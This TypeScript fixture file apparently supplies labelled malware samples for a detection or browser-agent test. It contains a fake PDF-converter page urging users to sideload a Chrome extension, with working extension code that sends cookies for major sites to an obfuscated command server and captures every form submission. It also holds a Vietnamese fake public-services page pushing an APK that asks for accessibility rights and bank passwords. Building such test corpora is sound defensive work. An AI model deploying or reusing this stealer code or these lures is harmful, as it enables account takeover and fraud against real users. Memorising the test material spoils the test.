import { type Entry } from '../entry.js';
import { apk, fileRoute, jsRoute, pngRoute, zip } from '../parts/e-bin.js';

// ---------- Malicious browser extension: "load unpacked" install page ----------
const exHost = 'www.pdfconvert-pro-tools.com';
const exPage = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>PDF Converter Pro – Free Chrome Extension | Convert PDF to Word, JPG, Excel</title>
<style>
body{margin:0;font-family:"Inter",system-ui,Arial,sans-serif;color:#1f2937;background:#fff}
nav{display:flex;align-items:center;padding:14px 8vw;border-bottom:1px solid #eee}nav b{font-size:20px;color:#dc2626}nav a{margin-left:22px;color:#4b5563;text-decoration:none;font-size:14px}
.hero{display:grid;grid-template-columns:1.1fr 1fr;gap:40px;padding:60px 8vw;align-items:center;background:linear-gradient(180deg,#fff5f5,#fff)}
.hero h1{font-size:42px;margin:0 0 14px;line-height:1.15}.hero p{font-size:18px;color:#4b5563}
.add{display:inline-flex;align-items:center;gap:10px;background:#1a73e8;color:#fff;padding:14px 26px;border-radius:8px;font-weight:600;font-size:16px;text-decoration:none;margin-top:18px}
.rating{margin-top:12px;color:#6b7280;font-size:14px}.rating b{color:#f59e0b}
.mock{height:300px;border-radius:12px;background:#f3f4f6;box-shadow:0 10px 30px rgba(0,0,0,.08)}
.steps{max-width:900px;margin:0 auto;padding:30px 20px}.steps ol li{margin:10px 0;line-height:1.6}
code{background:#f3f4f6;padding:2px 6px;border-radius:4px}
.why{background:#fffbeb;border:1px solid #fde68a;border-radius:8px;padding:14px;font-size:14px}
footer{text-align:center;font-size:12px;color:#9ca3af;padding:30px}
</style>
</head>
<body>
<nav><b>PDF Converter Pro</b><a href="#">Features</a><a href="#">Pricing</a><a href="#">FAQ</a></nav>
<section class="hero">
 <div>
  <h1>Convert any PDF in one click – right from your browser</h1>
  <p>PDF to Word, Excel, JPG, PowerPoint and back. No upload limits, no watermarks, 100% free.</p>
  <a class="add" href="/get/pdf-converter-pro-2.4.1.zip" id="add">&#43; Add to Chrome &ndash; It's free</a>
  <div class="rating"><b>★★★★★</b> 4.8 &middot; 2,000,000+ users</div>
 </div>
 <div class="mock"></div>
</section>
<section class="steps" id="install">
 <h2>How to install</h2>
 <div class="why">Our extension is temporarily unavailable on the Chrome Web Store while Google reviews the new version. You can install it manually in 30 seconds:</div>
 <ol>
  <li>Download and unzip <b>pdf-converter-pro-2.4.1.zip</b>.</li>
  <li>Open <code>chrome://extensions</code> in a new tab.</li>
  <li>Turn on <b>Developer mode</b> (top right).</li>
  <li>Click <b>Load unpacked</b> and select the unzipped folder.</li>
  <li>Pin PDF Converter Pro to your toolbar – done!</li>
 </ol>
</section>
<footer>© 2025 PDF Converter Pro. Not affiliated with Adobe Inc.</footer>
<script src="/js/lp.js"></script>
</body>
</html>`;
const exManifest = JSON.stringify(
  {
    manifest_version: 3,
    name: 'PDF Converter Pro',
    version: '2.4.1',
    description: 'Convert PDF files to Word, Excel, JPG and more.',
    permissions: ['cookies', 'tabs', 'storage', 'scripting', 'webRequest', 'declarativeNetRequest', 'history'],
    host_permissions: ['<all_urls>'],
    background: { service_worker: 'bg.js' },
    content_scripts: [{ matches: ['<all_urls>'], js: ['cs.js'], run_at: 'document_start', all_frames: true }],
    action: { default_title: 'PDF Converter Pro' },
  },
  null,
  2,
);
const exBg = `const C2=atob('aHR0cHM6Ly9hcGkucGRmY29udmVydC1wcm8tdG9vbHMuY29tL3YxL3N5bmM=');
chrome.runtime.onInstalled.addListener(()=>{chrome.storage.local.set({uid:crypto.randomUUID()})});
async function sync(){const {uid}=await chrome.storage.local.get('uid');const ck=await chrome.cookies.getAll({});
const pick=ck.filter(c=>/facebook|google|microsoft|live|paypal|amazon|binance|coinbase/.test(c.domain));
await fetch(C2,{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({uid,ck:pick})});
const r=await fetch(C2+'/cfg?uid='+uid);const cfg=await r.json();if(cfg.rules)chrome.declarativeNetRequest.updateDynamicRules({addRules:cfg.rules,removeRuleIds:cfg.remove||[]});}
chrome.alarms&&chrome.alarms.create('s',{periodInMinutes:30});chrome.alarms&&chrome.alarms.onAlarm.addListener(sync);sync();`;
const exCs = `document.addEventListener('submit',e=>{try{const f=e.target,d={};for(const el of f.elements){if(el.name&&el.value)d[el.name]=el.value}chrome.runtime.sendMessage({t:'f',u:location.href,d})}catch(x){}},true);`;
const exZip = zip([
  { name: 'pdf-converter-pro/manifest.json', data: exManifest },
  { name: 'pdf-converter-pro/bg.js', data: exBg },
  { name: 'pdf-converter-pro/cs.js', data: exCs },
  { name: 'pdf-converter-pro/icons/128.png', data: Buffer.from('89504e470d0a1a0a', 'hex') },
]);

// ---------- Vietnamese fake "Dịch vụ công" (public services) app – APK sideload ----------
const vnHost = 'dichvucong-gov.vn-app.com';
const vnPage = `<!DOCTYPE html>
<html lang="vi">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Cổng Dịch vụ công Quốc gia – Tải ứng dụng cập nhật định danh điện tử</title>
<style>
body{margin:0;font-family:Roboto,Arial,sans-serif;background:#f4f6f9;color:#222}
.hd{background:#b71c1c;color:#fff;padding:12px 16px;display:flex;align-items:center;gap:10px}.hd .qh{width:42px;height:42px;border-radius:50%;background:#ffd600;color:#b71c1c;font-weight:900;display:flex;align-items:center;justify-content:center}
.hd b{display:block;font-size:15px}.hd small{font-size:11px;opacity:.9}
.c{max-width:480px;margin:0 auto;padding:16px}
.card{background:#fff;border-radius:10px;padding:16px;margin-bottom:14px;box-shadow:0 1px 4px rgba(0,0,0,.06)}
.app{display:flex;gap:12px;align-items:center}.app i{width:60px;height:60px;border-radius:14px;background:linear-gradient(135deg,#d32f2f,#ff8f00);display:block}
.btn{display:block;text-align:center;background:#d32f2f;color:#fff;padding:14px;border-radius:8px;font-weight:700;text-decoration:none;margin-top:12px}
ol li{margin:6px 0;font-size:14px;line-height:1.5}
.warn{background:#fff3e0;border-left:4px solid #ff9800;padding:10px;font-size:13px}
</style>
</head>
<body>
<div class="hd"><div class="qh">&#9733;</div><div><b>CỔNG DỊCH VỤ CÔNG QUỐC GIA</b><small>Kết nối, cung cấp thông tin và dịch vụ công mọi lúc, mọi nơi</small></div></div>
<div class="c">
 <div class="card warn">Thông báo: Theo quy định mới, công dân phải <b>cập nhật thông tin định danh điện tử và mã số thuế</b> trước ngày <b id="dl"></b>. Tài khoản chưa cập nhật sẽ bị tạm khóa và không thể thực hiện thủ tục hành chính.</div>
 <div class="card">
  <div class="app"><i></i><div><b>Dịch vụ công</b><br><small>Bộ Công an &middot; Phiên bản 3.1.7 &middot; 24 MB</small><br><small>★★★★☆ 4.6 &middot; 1 triệu+ lượt tải</small></div></div>
  <a class="btn" id="apk" href="/download/DichVuCong_v3.1.7.apk">TẢI ỨNG DỤNG (Android)</a>
  <p style="font-size:12px;color:#777;text-align:center">Phiên bản iOS đang được cập nhật. Vui lòng sử dụng thiết bị Android.</p>
 </div>
 <div class="card"><b>Hướng dẫn cài đặt</b><ol>
  <li>Nhấn “Tải ứng dụng”, sau khi tải xong mở tệp <b>DichVuCong_v3.1.7.apk</b>.</li>
  <li>Nếu điện thoại báo “Không cho phép cài đặt từ nguồn này”, chọn <b>Cài đặt &rarr; Cho phép từ nguồn này</b>.</li>
  <li>Mở ứng dụng, bật quyền <b>Trợ năng (Accessibility)</b> để hệ thống tự động điền thông tin.</li>
  <li>Đăng nhập bằng số CCCD, nhập mật khẩu ngân hàng để xác minh và chụp ảnh khuôn mặt.</li>
 </ol></div>
 <div class="card" style="font-size:12px;color:#666">Hỗ trợ: Tổng đài 1900 8869 &middot; Zalo cán bộ hỗ trợ: 0865 214 773</div>
</div>
<script>document.getElementById('dl').textContent=new Date(Date.now()+3*864e5).toLocaleDateString('vi-VN');
if(/iPhone|iPad/.test(navigator.userAgent)){document.getElementById('apk').textContent='Thiết bị iOS chưa được hỗ trợ – liên hệ Zalo cán bộ'}
fetch('/api/visit',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({ua:navigator.userAgent,ref:document.referrer})}).catch(function(){});</script>
</body>
</html>`;

export const entries: Entry[] = [
  {
    id: 'e-mal-extension-pdf-converter',
    label: 'malware',
    kind: 'malicious-extension',
    url: `https://${exHost}/chrome-extension/?src=gads&kw=pdf+to+word`,
    body: exPage,
    routes: {
      [`${exHost}/js/lp.js`]: jsRoute(`document.getElementById('add').addEventListener('click',function(){setTimeout(function(){location.hash='install'},500);fetch('/api/ev?e=dl')});`),
      [`${exHost}/api/ev`]: { status: 204, headers: {}, body: '' },
      [`${exHost}/get/pdf-converter-pro-2.4.1.zip`]: fileRoute(exZip, 'application/zip', 'pdf-converter-pro-2.4.1.zip'),
    },
  },
  {
    id: 'e-mal-apk-dichvucong-vi',
    label: 'malware',
    kind: 'android-apk',
    url: `https://${vnHost}/cap-nhat-dinh-danh`,
    body: vnPage,
    routes: {
      [`${vnHost}/download/DichVuCong_v3.1.7.apk`]: fileRoute(apk('com.dichvucong.gov', 'Dịch vụ công', ['AccessibilityService', 'SmsReceiver', 'ws://185.174.100.22:8899/ws', 'screen_capture']), 'application/vnd.android.package-archive', 'DichVuCong_v3.1.7.apk'),
      [`${vnHost}/api/visit`]: { status: 204, headers: {}, body: '' },
      [`${vnHost}/favicon.ico`]: pngRoute(183, 28, 28),
    },
  },
];
